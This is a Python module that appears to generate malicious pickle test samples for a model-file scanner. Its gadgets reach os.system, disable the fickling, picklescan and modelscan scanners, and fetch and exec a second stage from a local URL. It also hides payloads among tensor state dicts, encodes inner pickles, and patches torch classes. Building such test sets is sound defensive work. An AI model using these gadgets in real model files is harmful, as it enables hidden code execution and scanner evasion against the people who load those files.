def _named(key: str, family: str, choices: list[tuple[str, str]], lo: int = 4) -> Builder:
    def build(rng: random.Random) -> Sample:
        module, name = rng.choice(choices)
        tag = key.lower()
        args = _f_args(_ARGKIND.get(name.rsplit(".", 1)[-1], "cmd"), rng, tag)
        top = 2 if module == "__builtin__" else 5  # __builtin__ maps to builtins below protocol 3
        ops = Ops(rng.randint(lo, max(lo, top)), memo=rng.random() < 0.6)
        ops.stack_global = ops.protocol >= 4 and rng.random() < 0.5
        ops.value(_embed(rng, Call(G(module, name), args)))
        return _sample(key, family, ops, ops.finish())

    build.__name__ = f"build_{key}"
    return build


_ARGKIND = {
    "eval": "code",
    "exec": "code",
    "FileIO": "path_w",
    "attrgetter": "host",
    "loads": "code",
}

PAYLOADS["E1"] = _named(
    "E1",
    "import_resolver",
    [(m, "os.system") for m in ("pathlib", "shutil", "zipfile", "inspect", "pdb", "logging")]
    + [("torch", "serialization.os.system"), ("numpy", "testing._private.utils.os.system")],
)
PAYLOADS["E2"] = _named(
    "E2",
    "import_resolver",
    [
        ("random", "_os.system"),
        ("tempfile", "_os.system"),
        ("uuid", "os.system"),
        ("platform", "os.system"),
        ("site", "os.system"),
        ("ctypes", "_os.system"),
    ],
)
PAYLOADS["E3"] = _named(
    "E3",
    "process",
    [
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
        ("asyncio.subprocess", "create_subprocess_shell"),
        ("multiprocessing.popen_fork", "Popen"),
        ("setuptools._distutils.spawn", "spawn"),
        ("os.path", "os.system"),
    ],
)
PAYLOADS["E4"] = _named(
    "E4",
    "process",
    [
        ("posix", "system"),
        ("nt", "system"),
        ("_io", "FileIO"),
        ("_operator", "attrgetter"),
        ("__builtin__", "eval"),
        ("__builtin__", "exec"),
        ("_posixsubprocess", "fork_exec"),
    ],
    lo=0,
)


@_register("E5")
def build_E5(rng: random.Random) -> Sample:
    """Universal resolvers: a name string in, the dangerous callable out."""
    module, name, args = _target(rng, "e5")
    mod_obj: Any = Call(G("importlib", "import_module"), (module,))
    fn = rng.choice(
        [
            Call(G("pkgutil", "resolve_name"), (f"{module}:{name}",)),
            Call(G("pydoc", "locate"), (f"{module}.{name}",)),
            Call(G("builtins", "getattr"), (mod_obj, name)),
            Call(Call(G("operator", "attrgetter"), (name,)), (mod_obj,)),
            Call(
                G("inspect", "getattr_static"), (Call(G("builtins", "__import__"), (module,)), name)
            ),
        ]
    )
    return _simple("E5", "import_resolver", rng, Call(fn, args), lo=2)


@_register("E6")
def build_E6(rng: random.Random) -> Sample:
    """`getattr(__import__('os'), 'system')(cmd)` built from nested REDUCEs."""
    cmd = harmless_command(rng, "e6")
    imp = Call(G("builtins", "__import__"), (rng.choice(["os", "posix"]),))
    if rng.random() < 0.5:  # a longer walk through an allowlisted module
        imp = Call(G("builtins", "getattr"), (Call(G("builtins", "__import__"), ("torch",)), "os"))
        imp = Call(G("builtins", "getattr"), (Call(G("builtins", "getattr"), (imp, "path")), "os"))
    fn = Call(G("builtins", "getattr"), (imp, "system"))
    return _simple("E6", "import_resolver", rng, Call(fn, (cmd,)), lo=1)


@_register("E7")
def build_E7(rng: random.Random) -> Sample:
    """functools.partial wrapping the sink, called with no arguments (or with BUILD state)."""
    ops = _ops(rng, _protocol(rng, 2))
    if rng.random() < 0.5:
        partial = Call(G("functools", "partial"), (G("os", "system"), harmless_command(rng, "e7")))
        ops.value(Call(partial, ()))
    else:  # partial.__setstate__((func, args, kwds, dict)) like the pickler writes it
        path = _path(rng, "e7")
        ops.value(Call(G("functools", "partial"), (G("torch", "load"),)))
        ops.tuple_of((G("torch", "load"), (path,), {"weights_only": False}, None)).op(pickle.BUILD)
        ops.tuple_of(()).op(pickle.REDUCE)
    return _sample("E7", "nested_loader", ops, ops.finish())


@_register("E8")
def build_E8(rng: random.Random) -> Sample:
    """Import scanner internals to switch them off, then run the payload."""
    module, name = rng.choice(
        [
            ("fickling.fickle", "Pickled"),
            ("picklescan.scanner", "_safe_globals"),
            ("modelscan.settings", "DEFAULT_SETTINGS"),
            ("fastscan.rules", "engine"),
        ]
    )
    off = Call(G("builtins", "setattr"), (G(module, name), "enabled", False))
    return _simple("E8", "tamper", rng, [off, _system(rng, "e8")], lo=1)


# -- G: fail-open / exhaustion -------------------------------------------------------------------
@_register("G1")
def build_G1(rng: random.Random) -> Sample:
    """The loader raises only after the payload ran (call an int, underflow, missing module)."""
    ops = _ops(rng, _protocol(rng, 1))
    ops.value(_system(rng, "g1"))
    variant = rng.randrange(4)
    if variant == 0:
        ops.integer(rng.randrange(100)).tuple_of(()).op(pickle.REDUCE)
    elif variant == 1:
        ops.op(pickle.POP * rng.randint(2, 5))
    elif variant == 2:
        ops.integer(7).integer(8).op(pickle.APPEND)
    else:
        ops.glob("fastscan_missing_module", "thing")
    return _sample("G1", "structure", ops, ops.finish())


@_register("G2")
def build_G2(rng: random.Random) -> Sample:
    """Truncated after the payload: the loader ran it, a strict parser reports only an error."""
    ops = _ops(rng, _protocol(rng))
    ops.op(pickle.MARK).value(_system(rng, "g2")).value(_benign_value(rng))
    data = ops.finish(stop=False, frame=False)
    cut = rng.choice([0, 1, rng.randint(2, 9)])
    return _sample("G2", "structure", ops, data[: len(data) - cut] if cut else data)


def _g5(key: str, make: Callable[[Ops, random.Random], bool]) -> Builder:
    def build(rng: random.Random) -> Sample:
        ops = Ops(rng.choice([4, 5]), memo=False)
        before = make(ops, rng)  # True: the bomb precedes the payload
        if before:
            ops.value(_system(rng, "g5"))
            return _sample(key, "structure", ops, ops.finish(frame=False))
        body = bytes(ops.body)
        ops.body = bytearray()
        ops.value(_system(rng, "g5")).op(pickle.POP)
        return _sample(key, "structure", ops, ops.finish(stop=False, frame=False) + body)

    build.__name__ = f"build_{key.replace('.', '_')}"
    return build


def _memo_bomb(ops: Ops, rng: random.Random) -> bool:
    """Billion laughs: each level is a list of k references to the previous level."""
    ops.list_of(["fastscan"])
    slot = ops.put()
    for _ in range(rng.randint(20, 40)):
        ops.op(pickle.MARK)
        ops.get(slot)
        for _ in range(rng.randint(3, 9)):
            ops.op(pickle.DUP)
        ops.op(pickle.LIST)
        slot = ops.put()
    ops.op(pickle.POP)
    return True


def _huge_frame(ops: Ops, rng: random.Random) -> bool:
    ops.op(pickle.FRAME, struct.pack("<Q", rng.choice([2**63 - 1, 2**40, 2**32 + 7])))
    ops.raw(rng.randbytes(rng.randint(0, 32)))
    return False


def _huge_len(opcode: bytes) -> Callable[[Ops, random.Random], bool]:
    def make(ops: Ops, rng: random.Random) -> bool:
        ops.op(opcode, struct.pack("<Q", rng.choice([2**62, 2**48, 2**33])))
        ops.raw(rng.randbytes(rng.randint(0, 64)))
        return False

    return make


def _big_text(ops: Ops, rng: random.Random) -> bool:
    """An 8 MiB protocol-0 text operand in front of the payload."""
    size = 8 * 1024 * 1024 + rng.randint(0, 4096)
    ops.op(rng.choice([pickle.UNICODE, pickle.STRING]))
    text = b"A" * size
    ops.raw(text + b"\n" if ops.body[-1:] == pickle.UNICODE else b"'" + text + b"'\n")
    ops.op(pickle.POP)
    return True


PAYLOADS["G5.memo_expansion"] = _g5("G5.memo_expansion", _memo_bomb)
PAYLOADS["G5.huge_frame"] = _g5("G5.huge_frame", _huge_frame)
PAYLOADS["G5.huge_binbytes8"] = _g5("G5.huge_binbytes8", _huge_len(pickle.BINBYTES8))
PAYLOADS["G5.huge_bytearray8"] = _g5("G5.huge_bytearray8", _huge_len(pickle.BYTEARRAY8))
PAYLOADS["G5.text_8mib"] = _g5("G5.text_8mib", _big_text)


def _storage(index: int, numel: int) -> Callable[[Ops], None]:
    """A persistent-id storage reference, as torch.save writes it."""

    def emit(ops: Ops) -> None:
        ops.tuple_of(("storage", G("torch", "FloatStorage"), str(index), "cpu", numel))
        ops.op(pickle.BINPERSID)

    return emit


def _tensor(rng: random.Random, index: int, hooks: Any = None) -> Call:
    rows, cols = rng.randint(1, 64), rng.randint(1, 64)
    hooks = Call(G("collections", "OrderedDict")) if hooks is None else hooks
    args = (_storage(index, rows * cols), 0, (rows, cols), (cols, 1), False, hooks)
    return Call(G("torch._utils", "_rebuild_tensor_v2"), args)


def _state_dict(rng: random.Random, n: int, special: dict[int, Any]) -> Callable[[Ops], None]:
    """An OrderedDict of tensors like a torch state dict; `special` replaces some values."""

    def emit(ops: Ops) -> None:
        ops.call(Call(G("collections", "OrderedDict")))
        ops.op(pickle.MARK)
        for i in range(n):
            ops.text(f"layers.{i // 2}.{'weight' if i % 2 == 0 else 'bias'}")
            ops.value(special.get(i, _tensor(rng, i)))
        ops.op(pickle.SETITEMS)

    return emit


@_register("G6")
def build_G6(rng: random.Random) -> Sample:
    """One payload hidden among hundreds of benign torch globals and tensors."""
    n = rng.randint(40, 400)
    ops = Ops(2, stack_global=False)
    ops.value(_state_dict(rng, n, {rng.randrange(n): _system(rng, "g6")}))
    return _sample("G6", "process", ops, ops.finish())


# -- H: nested / encoded payloads ----------------------------------------------------------------
@_register("H1")
def build_H1(rng: random.Random) -> Sample:
    """pickle.loads of an inner malicious pickle held in a bytes operand."""
    inner, nested = _inner_pickle(rng, "h1")
    ops = _ops(rng, _protocol(rng, 3))
    kinds = [pickle.SHORT_BINBYTES, pickle.BINBYTES]
    kinds += [pickle.BINBYTES8] if ops.protocol >= 4 else []
    kinds += [pickle.BYTEARRAY8] if ops.protocol >= 5 else []
    kind = rng.choice([k for k in kinds if k != pickle.SHORT_BINBYTES or len(inner) < 256])
    loads = G(rng.choice(["pickle", "_pickle"]), "loads")
    ops.value(_embed(rng, Call(loads, (lambda o: o.blob(inner, kind),))))
    return _add_globals(_sample("H1", "nested_loader", ops, ops.finish()), nested)


@_register("H2")
def build_H2(rng: random.Random) -> Sample:
    """Base64 / hex encoded inner pickle or source, plus a decoder gadget."""
    inner, nested = _inner_pickle(rng, "h2")
    variant = rng.randrange(3)
    if variant == 0:
        decoded = Call(G("base64", "b64decode"), (base64.b64encode(inner).decode(),))
        payload = Call(G(rng.choice(["pickle", "_pickle"]), "loads"), (decoded,))
    elif variant == 1:
        decoded = Call(G("binascii", "unhexlify"), (inner.hex(),))
        payload = Call(G("pickle", "loads"), (decoded,))
    else:
        code = base64.b64encode(_code(rng, "h2").encode()).decode()
        payload = Call(G("builtins", "exec"), (Call(G("base64", "b64decode"), (code,)),))
        nested = ["os.system"]
    return dataclasses.replace(
        _simple("H2", "obfuscation", rng, payload, lo=2), hidden=tuple(nested)
    )


@_register("H3")
def build_H3(rng: random.Random) -> Sample:
    """Multi-stage: fetch the second stage and exec it, or load another file as a model."""
    url = f"http://127.0.0.1:9/stage2-{rng.randrange(999)}.py"
    if rng.random() < 0.6:
        opener = rng.choice([G("urllib.request", "urlopen"), G("requests.api", "get")])
        attr = "read" if opener.module == "urllib.request" else "text"
        body: Any = Call(G("builtins", "getattr"), (Call(opener, (url,)), attr))
        body = Call(body, ()) if attr == "read" else body
        payload = Call(G("builtins", "exec"), (body,))
    else:
        payload = Call(G("torch", "load"), (rng.choice(["config.json", "tokenizer.bin"]),))
    return _simple("H3", "network", rng, payload, lo=2)


@_register("H4")
def build_H4(rng: random.Random) -> Sample:
    """The command string is assembled at load time (join, hex, base64, rot13)."""
    cmd = harmless_command(rng, "h4")
    variant = rng.randrange(4)
    if variant == 0:
        built: Any = Call(G("builtins", "str.join"), ("", list(cmd)))
    elif variant == 1:
        built = Call(G("builtins", "bytes.fromhex"), (cmd.encode().hex(),))
    elif variant == 2:
        built = Call(G("base64", "b64decode"), (base64.b64encode(cmd.encode()).decode(),))
    else:
        built = Call(G("codecs", "decode"), (_rot13(cmd), "rot13"))
    return _simple("H4", "obfuscation", rng, Call(G("os", "system"), (built,)), lo=4)


# -- I: loader-level -----------------------------------------------------------------------------
@_register("I3")
def build_I3(rng: random.Random) -> Sample:
    """A tensor whose backward_hooks OrderedDict holds a dangerous callable (runs on backward)."""

    def hooks(ops: Ops) -> None:
        ops.call(Call(G("collections", "OrderedDict")))
        ops.integer(rng.randrange(10)).value(rng.choice([G("os", "system"), G("builtins", "exec")]))
        ops.op(pickle.SETITEM)

    n = rng.randint(2, 40)
    at = rng.randrange(n)
    ops = Ops(2, stack_global=False)
    ops.value(_state_dict(rng, n, {at: _tensor(rng, at, hooks)}))
    return _sample("I3", "callback", ops, ops.finish())


@_register("I4")
def build_I4(rng: random.Random) -> Sample:
    """Sleepy Pickle: the payload patches model classes instead of touching the host."""
    cls = G("torch.nn", rng.choice(["Linear", "Conv2d", "Module", "Embedding"]))
    if rng.random() < 0.5:
        sink = G(rng.choice(["torch.nn.functional", "builtins"]), rng.choice(["dropout", "print"]))
        patch = Call(G("builtins", "setattr"), (cls, rng.choice(["forward", "__call__"]), sink))
    else:
        hook = G("builtins", rng.choice(["print", "breakpoint"]))
        patch = Call(G("torch.nn.modules.module", "register_module_forward_hook"), (hook,))
    n = rng.randint(2, 30)
    ops = Ops(2, stack_global=False)
    ops.value(_state_dict(rng, n, {rng.randrange(n): patch}))
    return _sample("I4", "tamper", ops, ops.finish())


def forged_legacy_magic(rng: random.Random) -> bytes:
    """A5: the legacy-torch magic number produced by eval() instead of a literal."""
    ops = Ops(2, memo=rng.random() < 0.5)
    ops.value(
        Call(
            G("builtins", "eval"),
            (rng.choice(["0x1950a86a20f9469cfc6c", "1 and 0x1950a86a20f9469cfc6c"]),),
        )
    )
    return ops.finish()


INJECTABLE = tuple(
    key
    for key in PAYLOADS
    if key in {"C8", "C9.obj", "C10", "D1", "D5", "E5", "E6", "H1", "H2", "I4"}
    or (key.startswith("F:") and "." not in key.split(".", 1)[1])
)
"""Payloads that `as_snippet` can splice into a benign protocol-2 stream (no dotted names)."""
